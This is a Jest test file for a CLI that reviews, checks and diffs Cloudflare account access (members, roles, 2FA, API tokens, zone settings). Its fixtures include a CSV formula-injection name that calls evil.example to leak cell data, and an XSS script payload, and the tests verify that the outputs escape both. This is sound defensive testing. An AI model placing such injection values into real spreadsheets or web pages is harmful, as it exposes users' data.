/**
 * review, check and diff on small hand-built graphs (test-fixtures/): every
 * path, including Zero Trust last logins, API tokens, policy grants and zone
 * settings, whatever the simulator's dataset holds.
 */
import fs from 'fs';
import os from 'os';
import path from 'path';
import { runChecks } from './check/checks';
import { parsePolicy } from './check/policy';
import { makeReport, renderCheckText } from './check/report';
import { parseRoster } from './check/roster';
import { main } from './cli';
import { diffGraphs } from './diff/diff';
import { renderDiffMarkdown } from './diff/render';
import { buildAccessModel, splitList } from './graph/access';
import { collectionInfo } from './graph/collection';
import { indexGraph, loadGraph } from './graph/load';
import { renderReview } from './review/render';
import { isoSeconds } from './util/output';

const BEFORE = path.join(__dirname, 'test-fixtures', 'before');
const AFTER = path.join(__dirname, 'test-fixtures', 'after');
const T0 = Date.parse('2025-06-01T00:00:00Z');

/** When the fixture's summary.json was written (its checkout time): what the reports say. */
const writtenAt = (dir: string) => isoSeconds(fs.statSync(path.join(dir, 'summary.json')).mtimeMs);

async function cli(argv: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await main(argv, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env: {} });
  return { code, stdout, stderr };
}

describe('review', () => {
  test('CSV: collection preamble, member rows (roles, policy grants, last login), token section; formulas neutralised', async () => {
    const { code, stdout, stderr } = await cli(['review', BEFORE, '--format', 'csv']);
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(stdout.split('\r\n')).toEqual([
      `Cloudflare access review,${path.join(BEFORE, 'graph')}`,
      `Collected,files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z`,
      'Completeness,Collection complete: every step finished.',
      '',
      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last dashboard login,Last login',
      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-30T09:15:00Z,2025-05-22T00:00:00Z',
      'Fixture Co,acc1,m2,bob@fixture.example,Bob Zone,accepted,unknown,,' +
        'Fixture Co (account): Zone Read; fixture.example (zone): Domain DNS (denied DNS Records Write); other.example (zone): denied Domain DNS,' +
        'none in 90 days,never',
      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,none in 90 days,not a Zero Trust user',
      'Fixture Co,acc1,m4,dave@fixture.example,Dave <script>alert(1)</script> Styles,accepted,off,' +
        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,2025-03-20T12:00:00Z,not a Zero Trust user',
      '',
      'Account,Token ID,Name,Owner,Status,Permissions,Scope,Can edit,Last used,Expires',
      'Fixture Co,t2,Forgotten export,account,active,Zone Read,fixture.example (zone): Zone Read,no,never,never',
      'Fixture Co,t3,Old bot,account,disabled,,no collected account or zone,unknown,2024-09-24,never',
      'Fixture Co,t1,Terraform,account,active,"DNS Write, Zone Read","Fixture Co (account, all zones): DNS Write, Zone Read",yes,2025-05-30,2025-12-31',
      '(user token),t4,Personal CLI,user,active,,no collected account or zone,unknown,2025-03-02,never',
      '',
    ]);
  });

  test('--bom starts the CSV with a UTF-8 byte order mark; other formats refuse it', async () => {
    const csv = await cli(['review', BEFORE, '--format', 'csv', '--bom']);
    expect(csv.code).toBe(0);
    expect(csv.stdout.startsWith('\ufeffCloudflare access review,')).toBe(true);
    expect((await cli(['review', BEFORE, '--format', 'csv'])).stdout.charCodeAt(0)).not.toBe(0xfeff);
    expect(await cli(['review', BEFORE, '--bom'])).toEqual({
      code: 2,
      stdout: '',
      stderr:
        'graph-cloudflare review: --bom applies to --format csv only, not md\nRun `graph-cloudflare review --help` for usage.\n',
    });
  });

  test('Markdown: one table per account, pipes escaped, then the API tokens', () => {
    const graph = loadGraph(BEFORE);
    const model = buildAccessModel(graph);
    model.members[0].name = 'Alice | Admin';
    const md = renderReview(model, 'md', { graph: 'g', collection: collectionInfo(graph) });
    expect(md.split('\n').slice(0, 12)).toEqual([
      '# Cloudflare access review',
      '',
      'Graph: `g`',
      '',
      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z. Collection complete: every step finished.`,
      '',
      '4 members in 1 accounts; 2 accepted without 2FA (off or unknown); 1 Super Administrators; 1 pending invitations',
      '',
      '## Fixture Co (acc1)',
      '',
      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last dashboard login | Last login |',
      '| --- | --- | --- | --- | --- | --- | --- | --- | --- |',
    ]);
    expect(md).toContain(
      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-30T09:15:00Z | 2025-05-22T00:00:00Z |',
    );
    expect(md).toContain(
      '## API tokens\n\n| Account | Token ID | Name | Owner | Status | Permissions | Scope | Can edit | Last used | Expires |',
    );
    expect(md).toContain(
      '| Fixture Co | t1 | Terraform | account | active | DNS Write, Zone Read | Fixture Co (account, all zones): DNS Write, Zone Read | yes | 2025-05-30 | 2025-12-31 |',
    );
  });

  test('HTML: one page with nothing external, everything escaped, summary counts', () => {
    const graph = loadGraph(BEFORE);
    const html = renderReview(buildAccessModel(graph), 'html', { graph: '<g>', collection: collectionInfo(graph) });
    expect(html).not.toMatch(/<script[^>]*\ssrc=|<link\s|https?:\/\/(?!evil\.example)/);
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('Dave &lt;script&gt;alert(1)&lt;/script&gt; Styles');
    expect(html).toContain('Graph: &lt;g&gt;');
    expect(html).toContain(
      "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'\">",
    );
    expect(html.match(/<div class="card[^"]*"><b>\d+<\/b>[^<]+<\/div>/g)).toEqual([
      '<div class="card"><b>4</b>members in 1 accounts</div>',
      '<div class="card bad"><b>2</b>accepted without 2FA</div>',
      '<div class="card warn"><b>1</b>Super Administrators</div>',
      '<div class="card warn"><b>1</b>pending invitations</div>',
    ]);
    expect(html.match(/<tr data-account/g)).toHaveLength(4);
    expect(html).toContain('<h2>API tokens</h2>\n<table id="tokens">');
    expect(html).toContain(
      '<td>Terraform</td><td>account</td><td>active</td><td>DNS Write, Zone Read</td><td>Fixture Co (account, all zones): DNS Write, Zone Read</td>',
    );
    expect(html).toContain('<td><span class="super">Super Administrator - All Privileges</span></td>');
  });

  test('last login is "no Zero Trust data" when the account has no Zero Trust users', () => {
    const graph = loadGraph(BEFORE);
    const withoutUsers = indexGraph(
      'g',
      graph.entities.filter((e) => e._type !== 'cloudflare_access_user'),
      graph.relationships,
    );
    expect(buildAccessModel(withoutUsers).members.map((m) => m.lastLogin)).toEqual([
      { kind: 'no-data' },
      { kind: 'no-data' },
      { kind: 'no-data' },
      { kind: 'no-data' },
    ]);
    expect(buildAccessModel(graph).members.map((m) => m.lastLogin)).toEqual([
      { kind: 'at', at: T0 - 10 * 24 * 3600 * 1000 },
      { kind: 'never' },
      { kind: 'not-a-user' },
      { kind: 'not-a-user' },
    ]);
  });

  test('lists joined with ", " split back, keeping names that contain ", "', () => {
    const ssl = 'SSL/TLS, Caching, Performance, Page Rules, and Customization';
    expect(splitList(`DNS, ${ssl}, Analytics`, [ssl])).toEqual(['DNS', ssl, 'Analytics']);
    expect(splitList(`DNS, ${ssl}`)).toEqual([
      'DNS',
      'SSL/TLS',
      'Caching',
      'Performance',
      'Page Rules',
      'and Customization',
    ]);
    expect(splitList(['a', 'b'])).toEqual(['a', 'b']);
    expect(splitList(undefined)).toEqual([]);
  });
});

describe('check', () => {
  const ROSTER =
    'email,status,role,department\n' +
    'Alice@Fixture.example,active,IT Lead,IT\n' +
    'bob@fixture.example,terminated,,Engineering\n' +
    'dave@fixture.example,active,Designer,Marketing\n';
  const POLICY =
    '{"allowedRoles": {"IT": ["Super Administrator - All Privileges"], "marketing": ["Analytics"]}, "maxSuperAdmins": 0}';

  test('every check, with its offenders', () => {
    const graph = loadGraph(BEFORE);
    const policy = parsePolicy(POLICY, 'p.json');
    const checks = runChecks(buildAccessModel(graph), parseRoster(ROSTER, 'r.csv'), policy, T0);
    const text = renderCheckText(
      makeReport(
        { graph: 'G', roster: 'r.csv', policy: 'p.json', now: T0, settings: policy, collection: collectionInfo(graph) },
        checks,
      ),
    );
    expect(text.split('\n')).toEqual([
      'graph-cloudflare check: 6 of 6 checks failed',
      'graph G, roster r.csv, policy p.json, as of 2025-06-01T00:00:00Z',
      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z`,
      '',
      'FAIL  Every member is identified in the roster: 1 found  [4 members with access (accepted or invited) in 1 account]',
      '      Fixture Co  carol@fixture.example  not in the roster (invitation pending)',
      '',
      'FAIL  No access for people the roster marks as terminated or does not list: 2 found  [4 members with access (accepted or invited) in 1 account]',
      '      Fixture Co  bob@fixture.example    terminated in the roster (line 3), membership accepted',
      '      Fixture Co  carol@fixture.example  not in the roster, invitation pending',
      '',
      "FAIL  Each member's roles are allowed for their roster role or department: 1 found  [2 active roster members with access]",
      '      Fixture Co  dave@fixture.example  role "SSL/TLS, Caching, Performance, Page Rules, and Customization" not allowed (allowed for role "Designer" / department "Marketing": "Analytics")',
      '',
      'FAIL  2FA is on for every member: 2 found  [3 accepted members (pending invitations cannot sign in yet)]',
      '      Fixture Co  bob@fixture.example   2FA unknown (Cloudflare did not give the user, so not known to be on)',
      '      Fixture Co  dave@fixture.example  2FA off',
      '',
      'FAIL  At most 0 Super Administrators per account: 1 found  [1 account, accepted and invited members]',
      '      Fixture Co  alice@fixture.example  Super Administrator, membership accepted; Fixture Co has 1 (at most 0)',
      '',
      'FAIL  No active API token unused for more than 90 days: 2 found  [3 active tokens]',
      '      (user token)  -  token "Personal CLI" (t4) last used 2025-03-02 (91 days ago)',
      '      Fixture Co    -  token "Forgotten export" (t2) never used, issued 2024-11-13 (200 days ago)',
      '',
    ]);
  });

  test('passing checks, and checks the policy switches off', () => {
    const graph = loadGraph(AFTER);
    const roster = parseRoster(
      'email\nalice@fixture.example\ncarol@fixture.example\ndave@fixture.example\nerin@fixture.example\n',
      'r.csv',
    );
    const policy = parsePolicy('{"require2fa": false, "maxTokenIdleDays": 400}', 'p.json');
    const checks = runChecks(buildAccessModel(graph), roster, policy, T0);
    expect(checks.map((c) => [c.id, c.status, c.summary, c.offenders.length])).toEqual([
      ['identified', 'pass', '4 members with access (accepted or invited) in 1 account', 0],
      ['leavers', 'pass', '4 members with access (accepted or invited) in 1 account', 0],
      ['roles', 'skip', 'the policy sets no allowedRoles', 0],
      ['2fa', 'skip', 'the policy sets require2fa to false', 0],
      ['super-admins', 'pass', '1 account, accepted and invited members', 0],
      ['token-idle', 'pass', '3 active tokens', 0],
    ]);
  });

  test('the token check is skipped when the api-tokens step did not run', () => {
    const graph = loadGraph(BEFORE);
    const noTokens = indexGraph(
      'g',
      graph.entities.filter((e) => e._type !== 'cloudflare_api_token'),
      graph.relationships,
      { partialTypes: [], stepStatus: new Map([['fetch-api-tokens', 'disabled']]) },
    );
    const checks = runChecks(buildAccessModel(noTokens), parseRoster('email\n', 'r.csv'), parsePolicy('{}', 'p'), T0);
    expect(checks[5]).toEqual({
      id: 'token-idle',
      title: 'No active API token unused for more than 90 days',
      status: 'skip',
      summary: 'the graph holds no API tokens (the api-tokens area was not collected)',
      offenders: [],
    });
  });

  test('maxInactiveDays: accepted members without a dashboard login in that many days fail; invitations are not judged', () => {
    const checks = runChecks(
      buildAccessModel(loadGraph(BEFORE)),
      parseRoster('email\n', 'r.csv'),
      parsePolicy('{"maxInactiveDays": 30}', 'p.json'),
      T0,
    );
    expect(checks.map((c) => c.id)).toEqual([
      'identified',
      'leavers',
      'roles',
      '2fa',
      'super-admins',
      'token-idle',
      'inactive',
    ]);
    expect(checks[6]).toEqual({
      id: 'inactive',
      title: 'Every accepted member logged in to the dashboard in the last 30 days',
      status: 'fail',
      summary: '3 accepted members',
      offenders: [
        {
          accountId: 'acc1',
          accountName: 'Fixture Co',
          email: 'bob@fixture.example',
          memberId: 'm2',
          detail: 'no dashboard login in the 90 days read',
        },
        {
          accountId: 'acc1',
          accountName: 'Fixture Co',
          email: 'dave@fixture.example',
          memberId: 'm4',
          detail: 'last dashboard login 2025-03-20 (72 days ago)',
        },
      ],
    });
  });

  test('maxInactiveDays without login activity in the graph: skipped, saying so, nobody failed', () => {
    const graph = loadGraph(BEFORE);
    const noActivity = indexGraph(
      'g',
      graph.entities.map(
        ({ lastLoginOn: _l, activityWindowDays: _w, ...entity }) =>
          entity as typeof entity & { _key: string; _type: string; _class: string[] },
      ),
      graph.relationships,
      { partialTypes: [], stepStatus: new Map() },
    );
    const checks = runChecks(
      buildAccessModel(noActivity),
      parseRoster('email\n', 'r.csv'),
      parsePolicy('{"maxInactiveDays": 30}', 'p.json'),
      T0,
    );
    expect(checks[6]).toEqual({
      id: 'inactive',
      title: 'Every accepted member logged in to the dashboard in the last 30 days',
      status: 'skip',
      summary:
        'the graph holds no login activity for these members (the activity area was off, or the token could not read the audit log)',
      offenders: [],
    });
  });

  test('maxInactiveDays longer than the window read: members without a login are not judged', () => {
    const checks = runChecks(
      buildAccessModel(loadGraph(BEFORE)),
      parseRoster('email\n', 'r.csv'),
      parsePolicy('{"maxInactiveDays": 120}', 'p.json'),
      T0,
    );
    expect(checks[6]).toMatchObject({
      status: 'pass',
      summary: '2 accepted members; 1 member not judged: the audit log was read over fewer days',
      offenders: [],
    });
  });

  test('through the CLI: exit 1 on failures, JSON output, --out written whole', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-check-'));
    try {
      fs.writeFileSync(path.join(dir, 'roster.csv'), ROSTER);
      fs.writeFileSync(path.join(dir, 'policy.json'), POLICY);
      const out = path.join(dir, 'report.json');
      const result = await cli([
        'check',
        BEFORE,
        '--roster',
        path.join(dir, 'roster.csv'),
        '--policy',
        path.join(dir, 'policy.json'),
        '--now',
        '2025-06-01T00:00:00Z',
        '--format',
        'json',
        '--out',
        out,
      ]);
      expect(result).toEqual({
        code: 1,
        stdout: '',
        stderr: `graph-cloudflare: wrote the check report (6 of 6 checks failed) to ${out}\n`,
      });
      const report = JSON.parse(fs.readFileSync(out, 'utf8'));
      expect(report).toMatchObject({ now: '2025-06-01T00:00:00Z', passed: 0, failed: 6, skipped: 0 });
      expect(report.checks[5].offenders).toEqual([
        {
          accountId: '',
          accountName: '(user token)',
          email: '',
          tokenId: 't4',
          detail: 'token "Personal CLI" (t4) last used 2025-03-02 (91 days ago)',
        },
        {
          accountId: 'acc1',
          accountName: 'Fixture Co',
          email: '',
          tokenId: 't2',
          detail: 'token "Forgotten export" (t2) never used, issued 2024-11-13 (200 days ago)',
        },
      ]);
      expect(fs.readdirSync(dir).sort()).toEqual(['policy.json', 'report.json', 'roster.csv']);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('diff', () => {
  test('members, roles, 2FA, status, DNS records, tokens and weakened zone settings', () => {
    const diff = diffGraphs(loadGraph(BEFORE), loadGraph(AFTER));
    const member = (memberId: string, email: string, status: string, roles: string[]) => ({
      accountId: 'acc1',
      accountName: 'Fixture Co',
      memberId,
      email,
      status,
      roles,
    });
    expect(diff.collections).toEqual({
      old: expect.objectContaining({ completeness: 'complete', newestDataAt: '2025-05-30T09:15:00Z' }),
      new: expect.objectContaining({ completeness: 'complete', newestDataAt: '2025-06-01T00:00:00Z' }),
    });
    const grant = (
      m: ReturnType<typeof member>,
      scope: 'account' | 'zone',
      target: string,
      permissionGroups: string[],
      deniedPermissionGroups: string[] = [],
    ) => ({ member: m, scope, target, permissionGroups, deniedPermissionGroups });
    const bob = member('m2', 'bob@fixture.example', 'accepted', []);
    expect(diff.grants).toEqual({
      added: [],
      removed: [
        grant(bob, 'account', 'Fixture Co', ['Zone Read']),
        grant(bob, 'zone', 'fixture.example', ['Domain DNS'], ['DNS Records Write']),
        grant(bob, 'zone', 'other.example', [], ['Domain DNS']),
      ],
      changed: [
        {
          grant: grant(
            member('m4', 'dave@fixture.example', 'accepted', [
              'SSL/TLS, Caching, Performance, Page Rules, and Customization',
            ]),
            'account',
            'Fixture Co',
            ['Analytics', 'Zone Read'],
          ),
          added: ['Zone Read'],
          removed: [],
          deniedAdded: [],
          deniedRemoved: [],
        },
      ],
    });
    const zt = (id: string, name: string) => ({ id, name, accountId: 'acc1' });
    expect(diff.zeroTrust).toEqual({
      policies: {
        added: [],
        removed: [],
        changed: [
          {
            item: zt('p1', 'Staff'),
            changes: [
              { field: 'includeRules', from: ['email_domain: fixture.example'], to: ['everyone'] },
              { field: 'appliesToEveryone', from: false, to: true },
            ],
          },
        ],
      },
      applications: {
        added: [zt('a2', 'Admin panel')],
        removed: [],
        changed: [{ item: zt('a1', 'Wiki'), changes: [{ field: 'allowedIdps', from: ['i1'], to: ['i2'] }] }],
      },
      identityProviders: { added: [zt('i2', 'GitHub')], removed: [zt('i1', 'Okta')], changed: [] },
    });
    expect({ ...diff, collections: undefined, grants: undefined, zeroTrust: undefined }).toEqual({
      old: path.join(BEFORE, 'graph'),
      new: path.join(AFTER, 'graph'),
      members: {
        added: [member('m5', 'erin@fixture.example', 'accepted', ['Administrator'])],
        removed: [member('m2', 'bob@fixture.example', 'accepted', [])],
        roleChanges: [
          {
            member: member('m1', 'alice@fixture.example', 'accepted', ['Administrator']),
            added: ['Administrator'],
            removed: ['Super Administrator - All Privileges'],
          },
        ],
        mfaChanges: [
          {
            member: member('m4', 'dave@fixture.example', 'accepted', [
              'SSL/TLS, Caching, Performance, Page Rules, and Customization',
            ]),
            from: 'off',
            to: 'on',
          },
        ],
        statusChanges: [
          {
            member: member('m3', 'carol@fixture.example', 'accepted', ['Administrator']),
            from: 'pending',
            to: 'accepted',
          },
        ],
      },
      dnsRecords: {
        added: [
          { id: 'r4', zone: 'other.example', name: 'mail.other.example', type: 'MX', content: 'mx.other.example' },
        ],
        removed: [{ id: 'r2', zone: 'fixture.example', name: 'fixture.example', type: 'TXT', content: 'v=spf1 -all' }],
        changed: [
          {
            record: {
              id: 'r1',
              zone: 'fixture.example',
              name: 'www.fixture.example',
              type: 'A',
              content: '203.0.113.9',
            },
            changes: [
              { field: 'content', from: '203.0.113.5', to: '203.0.113.9' },
              { field: 'proxied', from: true, to: false },
            ],
          },
        ],
      },
      tokens: {
        created: [{ id: 't5', name: 'New deploy', status: 'active', accountId: 'acc1' }],
        revoked: [
          {
            token: {
              id: 't3',
              name: 'Old bot',
              status: 'disabled',
              accountId: 'acc1',
            },
            reason: 'deleted (was disabled)',
          },
          {
            token: {
              id: 't1',
              name: 'Terraform',
              status: 'disabled',
              accountId: 'acc1',
            },
            reason: 'status active → disabled',
          },
        ],
      },
      zones: {
        weakened: [
          {
            zoneId: 'z1',
            zone: 'fixture.example',
            accountId: 'acc1',
            changes: [
              { field: 'sslMode', from: 'strict', to: 'flexible' },
              { field: 'minTlsVersion', from: '1.2', to: '1.0' },
              { field: 'alwaysUseHttps', from: true, to: false },
              { field: 'hstsEnabled', from: true, to: false },
              { field: 'dnssecStatus', from: 'active', to: 'pending' },
            ],
          },
        ],
      },
      notes: [],
    });
    // other.example got stronger (full → strict, DNSSEC on): not a weakening.
  });

  test('the same graph twice: no changes', async () => {
    const { code, stdout } = await cli(['diff', BEFORE, BEFORE]);
    expect(code).toBe(0);
    const time = `files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z`;
    expect(stdout).toBe(
      `# Cloudflare changes\n\nFrom \`${path.join(BEFORE, 'graph')}\` to \`${path.join(BEFORE, 'graph')}\`: no changes.\n\n` +
        `Old graph: Collected: ${time}.\n\nNew graph: Collected: ${time}.\n`,
    );
  });

  test('Markdown', () => {
    const md = renderDiffMarkdown(diffGraphs(loadGraph(BEFORE), loadGraph(AFTER)));
    expect(md).toContain('21 changes.');
    expect(md).toContain(
      '## Policy grants (access that is not a role)\n\n### Removed (3)\n\n- bob@fixture.example (Fixture Co, m2) on Fixture Co (account): was Zone Read\n',
    );
    expect(md).toContain('- dave@fixture.example (Fixture Co, m4) on Fixture Co (account): + Zone Read\n');
    expect(md).toContain(
      '## Access policies\n\n### Changed (1)\n\n- "Staff" (p1, account acc1): includeRules `email_domain: fixture.example` → `everyone`, appliesToEveryone `false` → `true`\n',
    );
    expect(md).toContain(
      '## Identity providers\n\n### Added (1)\n\n- "GitHub" (i2, account acc1)\n\n### Removed (1)\n\n- "Okta" (i1, account acc1)\n',
    );
    expect(md).toContain(
      '- fixture.example (z1): sslMode `strict` → `flexible`, minTlsVersion `1.2` → `1.0`, alwaysUseHttps `true` → `false`, hstsEnabled `true` → `false`, dnssecStatus `active` → `pending`',
    );
    expect(md).toContain(
      '- alice@fixture.example (Fixture Co, m1): + Administrator; − Super Administrator - All Privileges',
    );
    expect(md).toContain('- "Terraform" (t1, account acc1): status active → disabled');
  });

  test('parts one graph did not collect are not compared, and say so', () => {
    const before = loadGraph(BEFORE);
    const after = loadGraph(AFTER);
    const noTokens = indexGraph(after.dir, after.entities, after.relationships, {
      partialTypes: [],
      stepStatus: new Map([
        ['fetch-accounts', 'success'],
        ['fetch-account-members', 'success'],
        ['fetch-zones', 'success'],
        ['fetch-dns-records', 'success'],
        ['fetch-api-tokens', 'disabled'],
      ]),
    });
    const diff = diffGraphs(before, noTokens);
    expect(diff.notes).toEqual([
      'Access policies not compared: not collected in the new graph.',
      'Access applications not compared: not collected in the new graph.',
      'Identity providers not compared: not collected in the new graph.',
      'API tokens not compared: not collected in the new graph.',
    ]);
    expect(diff.tokens).toEqual({ created: [], revoked: [] });
    expect(diff.members.added).toHaveLength(1);
  });
});

describe('usage and input errors', () => {
  test('exit 2 with a message naming the problem', async () => {
    const missing = path.join(os.tmpdir(), 'graph-cloudflare-no-such-folder');
    expect(await cli(['review', missing])).toEqual({
      code: 2,
      stdout: '',
      stderr: `No collected graph at ${missing}: the folder does not exist. Run \`j1-integration collect\` first (it writes .j1-integration/graph), or give the graph folder as the first argument.\n`,
    });
    expect(await cli(['review', BEFORE, '--format', 'pdf'])).toEqual({
      code: 2,
      stdout: '',
      stderr:
        'graph-cloudflare review: --format must be one of md, csv, html, not "pdf"\nRun `graph-cloudflare review --help` for usage.\n',
    });
    expect(await cli(['check', BEFORE])).toEqual({
      code: 2,
      stdout: '',
      stderr: 'graph-cloudflare check: --roster FILE.csv is required\nRun `graph-cloudflare check --help` for usage.\n',
    });
    expect((await cli(['check', BEFORE, '--roster', 'r.csv', '--now', 'yesterday'])).stderr).toBe(
      'graph-cloudflare check: --now must be an ISO 8601 time such as 2025-01-31T00:00:00Z, not "yesterday"\nRun `graph-cloudflare check --help` for usage.\n',
    );
    expect((await cli(['check', BEFORE, '--roster', path.join(BEFORE, 'nope.csv')])).stderr).toBe(
      `${path.join(BEFORE, 'nope.csv')}: no such roster file\n`,
    );
    expect((await cli(['diff', BEFORE])).stderr).toBe(
      'graph-cloudflare diff: needs OLD_GRAPH_DIR and NEW_GRAPH_DIR, got 1 folder(s)\nRun `graph-cloudflare diff --help` for usage.\n',
    );
    expect((await cli(['review', BEFORE, AFTER])).code).toBe(2);
    const unknown = await cli(['reveiw']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/^graph-cloudflare unknown command "reveiw"\n\nUsage: graph-cloudflare <command>/);
  });

  test('a folder without graph files', async () => {
    const empty = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-empty-'));
    try {
      expect((await cli(['review', empty])).stderr).toBe(
        `No collected graph in ${empty}: it holds no entities/*.json or relationships/*.json files. Run \`j1-integration collect\` first (it writes .j1-integration/graph), or give the graph folder as the first argument.\n`,
      );
    } finally {
      fs.rmSync(empty, { recursive: true, force: true });
    }
  });

  test('--help for the CLI and each command', async () => {
    const top = await cli(['--help']);
    expect(top.code).toBe(0);
    expect(top.stdout).toContain('  review [GRAPH_DIR]');
    expect(top.stdout).toContain('Exit codes: 0 ok, 1 a check failed, 2 usage or input error.');
    for (const command of ['review', 'check', 'diff']) {
      const help = await cli([command, '--help']);
      expect(help.code).toBe(0);
      expect(help.stdout.startsWith(`Usage: graph-cloudflare ${command} `)).toBe(true);
    }
    expect((await cli([])).code).toBe(2);
  });

  test('--out into a folder that does not exist', async () => {
    const out = path.join(os.tmpdir(), 'graph-cloudflare-no-such-folder', 'x.md');
    const result = await cli(['review', BEFORE, '--out', out]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      new RegExp(`^${out.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: cannot write the review \\(ENOENT`),
    );
  });
});

describe('partial and copied collections say so in every output', () => {
  let dir: string;
  let partial: string;
  let copied: string;
  const UNKNOWN =
    'COMPLETENESS UNKNOWN: no summary.json beside the graph folder, so nothing tells whether every area was read (copy the whole .j1-integration folder, not only its graph folder).';
  const PARTIAL =
    'PARTIAL COLLECTION: steps not finished: fetch-api-tokens (failure); partial types: cloudflare_api_token. Results may miss what the run could not read.';
  beforeAll(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-partial-'));
    // A run whose api-tokens step failed.
    partial = path.join(dir, 'partial');
    fs.cpSync(BEFORE, partial, { recursive: true });
    const summary = JSON.parse(fs.readFileSync(path.join(partial, 'summary.json'), 'utf8'));
    summary.integrationStepResults.find((s: { id: string }) => s.id === 'fetch-api-tokens').status = 'failure';
    summary.metadata.partialDatasets.types = ['cloudflare_api_token'];
    fs.writeFileSync(path.join(partial, 'summary.json'), JSON.stringify(summary));
    // Only the graph folder copied, without its summary.
    copied = path.join(dir, 'copied');
    fs.cpSync(path.join(BEFORE, 'graph'), copied, { recursive: true });
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  test('review: CSV, Markdown and HTML carry the banner; stderr warns too', async () => {
    const csv = await cli(['review', partial, '--format', 'csv']);
    expect(csv.stderr).toBe(`graph-cloudflare: warning: ${path.join(partial, 'graph')}: ${PARTIAL}\n`);
    expect(csv.stdout.split('\r\n')[2]).toBe(`Completeness,${PARTIAL}`);
    const md = await cli(['review', copied]);
    expect(md.stdout.split('\n').slice(0, 3)).toEqual(['# Cloudflare access review', '', `> **${UNKNOWN}**`]);
    expect(md.stdout).toMatch(
      /\nCollected: files written \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ \(newest graph file; a copy shows the copy's time\); newest time in the data 2025-05-30T09:15:00Z\.\n/,
    );
    const html = await cli(['review', partial, '--format', 'html']);
    expect(html.stdout).toContain(`<p class="banner" role="alert">${PARTIAL}</p>`);
  });

  test('check: text and JSON carry the banner and the collection', async () => {
    const roster = path.join(dir, 'roster.csv');
    fs.writeFileSync(roster, 'email\nalice@fixture.example\n');
    const text = await cli(['check', copied, '--roster', roster]);
    expect(text.stdout.split('\n')[1]).toBe(`!!! ${UNKNOWN}`);
    const json = JSON.parse((await cli(['check', partial, '--roster', roster, '--format', 'json'])).stdout);
    expect(json.collection).toMatchObject({
      completeness: 'partial',
      banner: PARTIAL,
      failedSteps: ['fetch-api-tokens (failure)'],
      partialTypes: ['cloudflare_api_token'],
    });
  });

  test('diff: Markdown and JSON carry each side’s banner', async () => {
    const md = await cli(['diff', copied, partial]);
    expect(md.stdout).toContain(`> **Old graph: ${UNKNOWN}**`);
    expect(md.stdout).toContain(`> **New graph: ${PARTIAL}**`);
    const json = JSON.parse((await cli(['diff', AFTER, partial, '--format', 'json'])).stdout);
    expect([json.collections.old.completeness, json.collections.new.completeness]).toEqual(['complete', 'partial']);
  });
});

describe('a policy naming a role no account has', () => {
  test('gets a warning on stderr and in the report', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-policy-'));
    try {
      fs.writeFileSync(path.join(dir, 'roster.csv'), 'email\nalice@fixture.example\n');
      fs.writeFileSync(
        path.join(dir, 'policy.json'),
        '{"allowedRoles": {"IT": ["Super Administrator - All Privileges", "Adminstrator"], "Ops": ["Zone Read"]}}',
      );
      const policy = path.join(dir, 'policy.json');
      const result = await cli([
        'check',
        BEFORE,
        '--roster',
        path.join(dir, 'roster.csv'),
        '--policy',
        policy,
        '--format',
        'json',
      ]);
      const warning = `${policy}:1:66: allowedRoles."IT" names "Adminstrator", which no account in the graph has as a role (nor any member as a permission group); check its spelling against the roles in the review`;
      expect(result.stderr).toBe(`graph-cloudflare: warning: ${warning}\n`);
      expect(JSON.parse(result.stdout).warnings).toEqual([warning]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('each command’s --help', () => {
  test('lists exactly the options its parser accepts, and GRAPH_DIR only where it applies', async () => {
    const accepted: Record<string, string[]> = {
      review: ['--bom', '--format', '--out'],
      check: ['--format', '--now', '--out', '--policy', '--roster'],
      diff: ['--format', '--out'],
    };
    for (const [command, options] of Object.entries(accepted)) {
      const { stdout } = await cli([command, '--help']);
      const described = [...stdout.matchAll(/^ {2}(--[a-z]+)/gm)].map((m) => m[1]).sort();
      expect({ command, described }).toEqual({ command, described: options });
      expect(/^ {2}GRAPH_DIR /m.test(stdout)).toBe(command !== 'diff');
      // An option the help does not list is refused.
      if (command !== 'review') expect((await cli([command, '--bom'])).code).toBe(2);
    }
  });
});
